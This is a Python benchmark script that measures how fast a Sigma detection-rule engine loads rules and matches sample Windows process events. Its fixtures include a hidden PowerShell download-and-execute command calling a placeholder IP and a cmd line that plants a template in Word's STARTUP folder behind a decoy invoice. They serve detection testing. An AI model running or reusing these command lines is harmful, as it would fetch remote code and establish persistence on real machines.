"""Benchmark Sigma loading and evaluation: prints figures, asserts nothing.

Run: /work/venv/bin/python benchmarks/bench_sigma.py [RULE_DIR ...]
Without arguments it uses the team rules plus SigmaHQ's process_creation rules from the public
corpus (../shared/corpus), when present.
"""

from __future__ import annotations

import sys
import time
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from restytriage.sigma import RuleSet, default_rule_dirs, load_rules

SIGMAHQ = Path(__file__).resolve().parents[2] / "shared/corpus/sigma/rules/windows/process_creation"

EVENTS: dict[str, dict[str, str]] = {
    "restylink": {
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": 'C:\\Windows\\System32\\cmd.exe /c copy /y "%TEMP%\\x.tmp" '
        '"%APPDATA%\\Microsoft\\Word\\STARTUP\\w.dot" & start "" "invoice.pdf"',
        "ParentImage": "C:\\Windows\\explorer.exe",
        "CurrentDirectory": "C:\\Users\\Public\\",
        "OriginalFileName": "Cmd.Exe",
        "ParentCommandLine": "C:\\Windows\\explorer.exe",
        "User": "DESKTOP\\bob",
        "IntegrityLevel": "Medium",
    },
    "benign_word": {
        "Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "CommandLine": '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" '
        '"C:\\Users\\a\\Documents\\report.docx"',
        "ParentImage": "C:\\Windows\\explorer.exe",
        "CurrentDirectory": "C:\\Users\\a\\Documents\\",
        "OriginalFileName": "WinWord.exe",
        "ParentCommandLine": "C:\\Windows\\explorer.exe",
        "User": "DESKTOP\\a",
        "IntegrityLevel": "Medium",
    },
    "powershell_download_padded": {
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": "powershell.exe" + " " * 300 + '-nop -w hidden -c "IEX (New-Object Net.WebClient)'
        ".DownloadString('http://203.0.113.9/a.ps1')\"",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "CurrentDirectory": "C:\\Users\\Public\\",
        "OriginalFileName": "PowerShell.EXE",
        "ParentCommandLine": "C:\\Windows\\explorer.exe",
        "User": "DESKTOP\\bob",
        "IntegrityLevel": "Medium",
    },
    "long_64k_args": {
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": "cmd.exe /c " + "A?*-/ " * 10_900,  # an LNK's argument maximum is ~64 KiB
        "ParentImage": "C:\\Windows\\explorer.exe",
        "OriginalFileName": "Cmd.Exe",
    },
}


def _throughput(rs: RuleSet, event: dict[str, str], seconds: float = 1.0) -> tuple[float, int]:
    n, start = 0, time.perf_counter()
    while (elapsed := time.perf_counter() - start) < seconds:
        hits = len(rs.match(event))
        n += 1
    return n / elapsed, hits


def main(argv: list[str]) -> None:
    dirs = [Path(a) for a in argv] or [*default_rule_dirs(), *([SIGMAHQ] if SIGMAHQ.is_dir() else [])]
    print("rule dirs:", *dirs, sep="\n  ")
    start = time.perf_counter()
    rs = load_rules(dirs)
    cold = time.perf_counter() - start
    start = time.perf_counter()
    load_rules(dirs)
    cached = time.perf_counter() - start
    print(f"rules loaded: {len(rs.rules)}  skipped: {len(rs.skipped)}")
    for reason, count in Counter(r.split(":")[0] for _, r in rs.skipped).most_common(5):
        print(f"  skipped {count:4d}x  {reason}")
    print(f"load time: cold {cold:.3f} s, cached {cached * 1000:.1f} ms")
    for name, event in EVENTS.items():
        rate, hits = _throughput(rs, event)
        print(f"{name:28s} {rate:8.0f} events/s  {1000 / rate:6.2f} ms/event  {hits} matches")


if __name__ == "__main__":
    main(sys.argv[1:])
